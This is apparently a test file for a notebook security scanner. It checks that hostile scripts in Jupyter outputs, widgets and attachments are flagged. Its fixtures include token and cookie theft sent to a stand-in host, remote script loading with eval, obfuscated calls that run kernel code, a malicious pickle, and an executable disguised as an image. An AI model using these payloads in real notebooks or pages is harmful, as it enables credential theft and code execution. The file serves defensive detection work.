// What a notebook shows when it is opened: scripts in outputs, widgets and attachments go through the reader of programs.
import { describe, expect, it } from 'vitest';
import type { Finding } from '../../../src/core/finding.ts';
import { inspectBytes } from '../../support/inspect.ts';
import { token } from '../secret/tokens.ts';

const shown = (data: object, metadata: object = {}): string =>
  JSON.stringify(
    {
      cells: [
        { cell_type: 'markdown', metadata: {}, source: ['# Report\n'] },
        {
          cell_type: 'code',
          execution_count: 1,
          metadata: {},
          outputs: [{ output_type: 'display_data', metadata: {}, data }],
          source: [],
        },
      ],
      metadata,
      nbformat: 4,
      nbformat_minor: 5,
    },
    null,
    1,
  );

async function toldOf(text: string): Promise<readonly Finding[]> {
  const { findings } = await inspectBytes(Buffer.from(text), 'report.ipynb');
  return findings.filter(({ severity }) => severity !== 'INFO' && severity !== 'LOW');
}

const rulesOf = async (text: string): Promise<string[]> => (await toldOf(text)).map(({ rule }) => rule);
const lineOf = (text: string, word: string): number =>
  text.split('\n').findIndex((line) => line.includes(word)) + 1;

const KERNEL = 'NOTEBOOK-OUTPUT-KERNEL';
const FOREIGN = 'NOTEBOOK-OUTPUT-FOREIGN-SCRIPT';
const HTML = 'text/html';
const SCRIPT = 'application/javascript';
const encoded = (text: string): string => Buffer.from(text).toString('base64');

describe('a script in an output', () => {
  it.each([
    [SCRIPT, 'var n = Jupyter.notebook; var k = n.kernel; k.execute("1")', KERNEL],
    [SCRIPT, 'window["IPython"]["notebook"]["kernel"]["execute"]("1")', KERNEL],
    [SCRIPT, 'Jupyter.notebook.ker\\u006eel.execute("1")', KERNEL],
    [SCRIPT, 'function f(s) { s.kernel.requestExecute({ code: "1" }) }', KERNEL],
    [SCRIPT, 'window.jupyterapp.commands.execute("notebook:run-all-cells")', KERNEL],
    [SCRIPT, 'fetch("/ap" + "i/terminals", { method: "POST" })', KERNEL],
    [SCRIPT, 'var d = document; new Image().src = "https://c.example.invalid/?" + d["coo" + "kie"]', KERNEL],
    [SCRIPT, 'location = "https://c.example.invalid/?" + localStorage.getItem("t")', KERNEL],
    [SCRIPT, 'window.location = "https://c.example.invalid/?" + localStorage.getItem("t")', KERNEL],
    [SCRIPT, 'document.location = "https://c.example.invalid/?" + localStorage.getItem("t")', KERNEL],
    [SCRIPT, 'window.open("https://c.example.invalid/?" + localStorage.getItem("t"))', KERNEL],
    [
      SCRIPT,
      'var a = document.createElement("a"); a.href = "https://c.example.invalid/?" + localStorage.getItem("t"); a.click()',
      KERNEL,
    ],
    [SCRIPT, 'document.forms[0].action = "https://c.example.invalid/?" + localStorage.getItem("t")', KERNEL],
    [
      SCRIPT,
      'document.write("<img src=\\"https://c.example.invalid/?" + localStorage.getItem("t") + "\\">")',
      KERNEL,
    ],
    [SCRIPT, 'element.append("<img src=//c.example.invalid/?" + localStorage.getItem("t") + ">")', KERNEL],
    [
      SCRIPT,
      'document.body.style.backgroundImage = "url(https://c.example.invalid/?" + localStorage.getItem("t") + ")"',
      KERNEL,
    ],
    [
      SCRIPT,
      'var x = new XMLHttpRequest(); x.open("GET", "https://c.example.invalid/?" + localStorage.getItem("t")); x.send()',
      KERNEL,
    ],
    [SCRIPT, 'fetch("https://c.example.invalid/?" + document.body.dataset.jupyterApiToken)', KERNEL],
    [
      SCRIPT,
      'fetch("//c.example.invalid/?" + JSON.parse(document.getElementById("jupyter-config-data").textContent).token)',
      KERNEL,
    ],
    [SCRIPT, 'navigator.sendBeacon("https://c.example.invalid/", localStorage.getItem("token"))', KERNEL],
    [
      SCRIPT,
      'var x = new XMLHttpRequest(); x.open("POST", "//c.example.invalid"); x.send(sessionStorage.t)',
      KERNEL,
    ],
    [
      SCRIPT,
      'fetch("https://c.example.invalid/x.js").then(r => r.text()).then(eval)',
      'CODE-DOWNLOAD-EXECUTE',
    ],
    [SCRIPT, `eval(atob("${encoded('document.title = 1; alert(2)')}"))`, 'CODE-DECODE-EXECUTE'],
    [SCRIPT, 'require(["https://c.example.invalid/a.js"])', 'NOTEBOOK-OUTPUT-FOREIGN-SCRIPT'],
    [SCRIPT, 'require.config({ paths: { a: "https://c.example.invalid/a" } })', FOREIGN],
    [SCRIPT, 'importScripts("https://c.example.invalid/a.js")', FOREIGN],
    [SCRIPT, 'new Worker("https://c.example.invalid/a.js")', FOREIGN],
    [SCRIPT, '$.getScript("https://c.example.invalid/a.js", draw)', FOREIGN],
    [SCRIPT, 'var s = document.createElement("script"); s.src = "https://c.example.invalid/a.js"', FOREIGN],
    [
      SCRIPT,
      'function f() { let s = document.createElement("scr" + "ipt"); s["src"] = "//c.example.invalid" }',
      FOREIGN,
    ],
    [
      SCRIPT,
      'var s = document.createElement("script"); s.setAttribute("src", "//c.example.invalid/a")',
      FOREIGN,
    ],
    [SCRIPT, `document.write('<scr' + 'ipt src="https://c.example.invalid/a.js"></scr' + 'ipt>')`, FOREIGN],
    [SCRIPT, 'new Image().src = "https://c.example.invalid/?" + localStorage.getItem("token")', KERNEL],
    [SCRIPT, 'window.location.href = "https://c.example.invalid/?" + localStorage.token', KERNEL],
    [HTML, '<p>1</p><script>\nIPython.notebook.kernel.execute("1")\n</script>', KERNEL],
    [
      HTML,
      '<script>if (1 < 2) { fetch("https://c.example.invalid/x").then(r => r.text()).then(eval) }',
      'CODE-DOWNLOAD-EXECUTE',
    ],
    [HTML, '<img src=x onerror="IPython.notebook.kernel.execute(1)">', KERNEL],
    [HTML, '<img src=x onerror="eval(atob(&quot;YWxlcnQoMSk7YWxlcnQoMik=&quot;))">', 'CODE-DECODE-EXECUTE'],
    [HTML, '<a href="java&#115;cript:IPython.notebook.kernel.execute(1)">more</a>', KERNEL],
    [
      HTML,
      '<iframe srcdoc="&lt;script&gt;parent.IPython.notebook.kernel.execute(1)&lt;/script&gt;">',
      KERNEL,
    ],
    [
      HTML,
      `<script src="data:text/javascript;base64,${encoded('IPython.notebook.kernel.execute(1)')}"></script>`,
      KERNEL,
    ],
    [HTML, '<a href="ja&Tab;va&#10;script:IPython.notebook.kernel.execute(1)">more</a>', KERNEL],
    [HTML, '<a data-commandlinker-command="notebook:run-all-cells" href="#">more</a>', KERNEL],
    [
      'image/svg+xml',
      '<svg xmlns="http://www.w3.org/2000/svg" onload="Jupyter.notebook.kernel.execute(1)"></svg>',
      KERNEL,
    ],
    [
      'image/svg+xml',
      '<svg><script xlink:href="https://c.example.invalid/a.js"/></svg>',
      'NOTEBOOK-OUTPUT-FOREIGN-SCRIPT',
    ],
  ])('is judged once: %s %s', async (type, text, rule) => {
    expect(await rulesOf(shown({ [type]: [text] }))).toEqual([rule]);
  });

  it.each([
    [SCRIPT, 'element.text("done"); localStorage.setItem("a", "b")'],
    [SCRIPT, 'fetch("/static/a.json", { method: "POST", body: JSON.stringify(localStorage) })'],
    [SCRIPT, 'var s = document.createElement("script"); s.src = "https://cdn.plot.ly/plotly-2.js"; put(s)'],
    [SCRIPT, 'require.config({ paths: { vega: "https://cdn.jsdelivr.net/npm/vega@5?noext", a: "./a" } })'],
    [SCRIPT, 'var i = document.createElement("img"); i.src = "https://c.example.invalid/a.png"; put(i)'],
    [SCRIPT, 'var i = new Image(); i.src = "/a.png?" + localStorage.theme; i.title = localStorage.theme'],
    [SCRIPT, 'window.location.href = "https://example.invalid/docs"; localStorage.setItem("a", "b")'],
    [
      SCRIPT,
      'location = "/tree?" + localStorage.getItem("last"); document.title = localStorage.getItem("t")',
    ],
    [
      SCRIPT,
      'location = "https://example.invalid/docs"; var a = document.createElement("a"); a.href = "https://example.invalid/" + page',
    ],
    [SCRIPT, 'setTimeout(function() { Plotly.newPlot("a", [{ "x": [1] }]) }, 10)'],
    [HTML, '<script type="application/json">{"a": "Jupyter.notebook.kernel.execute"}</script>'],
    [HTML, '<p>Jupyter.notebook.kernel.execute(1)</p><script>render()</script>'],
    [HTML, '<button onclick="show(this)">+</button><img src="data:image/png;base64,iVBORw0KGgo=">'],
    [HTML, '<script>async function f(k) { await google.colab.kernel.invokeFunction("f", [k], {}) }</script>'],
    ['text/plain', '<script>IPython.notebook.kernel.execute(1)</script>'],
  ])('is let be: %s %s', async (type, text) => {
    expect(await rulesOf(shown({ [type]: [text] }))).toEqual([]);
  });

  it.each([
    ['by its words', 'IPython.notebook.kernel.execute(1)'],
    ['by its names', 'var k = IPython["notebook"].kernel; k["execute"](1)'],
    ['by the rules for programs', 'fetch("https://c.example.invalid/x").then(r => r.text()).then(eval)'],
  ])('stands on the line of what it does, told %s', async (_, harm) => {
    const text = shown({ [SCRIPT]: ['// one\n', 'draw();\n', `${harm}\n`, 'draw();\n'] });
    const told = await toldOf(text);
    expect(told).toHaveLength(1);
    expect(told[0]?.location).toMatchObject({ line: lineOf(text, '1)') || lineOf(text, 'eval'), cell: 2 });
  });

  it('is told apart from what a library does in the same output', async () => {
    const bokeh = [
      `const cmd_destroy = "import bokeh.io.notebook as ion; ion.destroy_server('" + server_id + "')";\n`,
      '  cell.notebook.kernel.execute(cmd_destroy);\n',
    ];
    expect(await rulesOf(shown({ [SCRIPT]: bokeh }))).toEqual([]);
    const text = shown({ [SCRIPT]: [...bokeh, 'cell.notebook["kernel"].execute("2 + 2")\n'] });
    expect((await toldOf(text)).map(({ location }) => location.line)).toEqual([lineOf(text, '2 + 2')]);
  });

  it('is judged in the text of a widget, on its line', async () => {
    const state = {
      a: {
        model_name: 'HTMLModel',
        state: { value: '<b onclick="Jupyter.notebook.kernel.execute(1)">x</b>' },
      },
    };
    const text = shown({}, { widgets: { 'application/vnd.jupyter.widget-state+json': { state } } });
    expect(await toldOf(text)).toMatchObject([{ rule: KERNEL, location: { line: lineOf(text, 'onclick') } }]);
  });

  it('costs no more than its length, and says what of it was only searched', async () => {
    const library = `function a(){${'b=b<c?eval("d"):fetch(e);'.repeat(60_000)}}`;
    const text = shown({ [HTML]: [`<script>${library}</script><script>draw()</script>`] });
    const { findings } = await inspectBytes(Buffer.from(text), 'report.ipynb');
    expect(findings.map(({ rule, severity }) => `${severity} ${rule}`)).toEqual([
      'INFO NOTEBOOK-OUTPUT-SCRIPT',
    ]);
    const worse = shown({
      [HTML]: [`<script>${library}</script><script>IPython.notebook.kernel.execute(1)</script>`],
    });
    expect(await rulesOf(worse)).toEqual([KERNEL]);
  });
});

describe('a file in a cell of text', () => {
  const attached = (type: string, data: string | Buffer): string => {
    const cell = {
      cell_type: 'markdown',
      metadata: {},
      source: ['![a](attachment:a.png)'],
      attachments: { 'a.png': { [type]: Buffer.from(data).toString('base64') } },
    };
    return JSON.stringify({ cells: [cell], metadata: {}, nbformat: 4, nbformat_minor: 5 }, null, 1);
  };
  const said = async (type: string, data: string | Buffer): Promise<string[]> =>
    (await toldOf(attached(type, data))).map(({ rule, severity }) => `${severity} ${rule}`);
  const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
  const ELF = Buffer.concat([Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(56)]);
  ELF[16] = 2;
  ELF[18] = 0x3e;

  it.each<[string, string, string | Buffer, string[]]>([
    ['a program', 'image/png', ELF, ['HIGH NOTEBOOK-ATTACHMENT']],
    ['a page', 'image/png', '<!doctype html><p>x</p>', ['MEDIUM NOTEBOOK-ATTACHMENT']],
    [
      'a drawing that acts',
      'image/svg+xml',
      '<svg onload="Jupyter.notebook.kernel.execute(1)"/>',
      [`HIGH ${KERNEL}`],
    ],
    [
      'such a drawing under another type',
      'image/png',
      '<svg onload="Jupyter.notebook.kernel.execute(1)"/>',
      [`HIGH ${KERNEL}`],
    ],
    ['a picture', 'image/png', PNG, []],
    ['a picture under the type of another', 'image/jpeg', PNG, []],
    ['a drawing', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>', []],
    ['bytes of no known kind', 'image/x-own', Buffer.from([0x13, 0x37, 0, 1, 2, 3]), []],
  ])('is %s', async (_, type, data, rules) => {
    expect(await said(type, data)).toEqual(rules);
  });

  it('is told on its line, and read as what it is', async () => {
    const pickle = Buffer.from("cos\nsystem\n(S'id'\ntR.");
    const text = attached('image/png', pickle);
    const told = await toldOf(text);
    expect(told.map(({ rule }) => rule)).toContain('NOTEBOOK-ATTACHMENT');
    expect(told.some(({ severity, surface }) => severity === 'CRITICAL' && surface === 'pickle')).toBe(true);
    expect(told.find(({ rule }) => rule === 'NOTEBOOK-ATTACHMENT')?.location).toMatchObject({
      line: lineOf(text, 'image/png'),
      cell: 1,
    });
  });

  it('has a secret in its text', async () => {
    expect(await said('text/plain', `key ${token('huggingface-user')}\n`)).toEqual([
      'HIGH SECRET-AI-PROVIDER',
    ]);
  });
});
